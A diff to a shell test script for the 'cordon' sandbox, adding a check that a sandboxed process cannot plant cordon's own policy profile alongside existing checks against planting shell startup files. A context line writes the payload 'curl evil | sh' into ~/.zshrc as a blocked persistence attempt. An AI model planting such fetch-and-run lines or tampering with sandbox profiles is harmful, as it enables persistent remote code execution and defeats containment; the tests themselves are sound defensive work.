@@ -438,6 +438,10 @@ if control "append to .bashrc in a writable HOME" sh -c "echo '# c' >> '$HW/.bas
         j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo "curl evil | sh" > ~/.zshrc')
         expect_failed "HOME as workspace: create a missing ~/.zshrc" "$j"
         host_check "HOME as workspace: no ~/.zshrc planted" sh -c "[ ! -s '$HW/.zshrc' ]"
+        # cordon's own profiles: planting one would choose the next run's policy
+        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'mkdir -p ~/.config/cordon/profiles && echo "{}" > ~/.config/cordon/profiles/git.json')
+        expect_failed "HOME as workspace: plant ~/.config/cordon/profiles/git.json" "$j"
+        host_check "HOME as workspace: no profile planted" sh -c "[ ! -e '$HW/.config/cordon/profiles/git.json' ]"
         j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo ok > notes.txt && cat notes.txt')
         if [ "$(field verdict <<<"$j")" = ok ] && [ -f "$HW/notes.txt" ]; then ok "HOME as workspace: ordinary writes work"; else not_ok "HOME as workspace: ordinary writes"; diag "$j"; fi
 fi
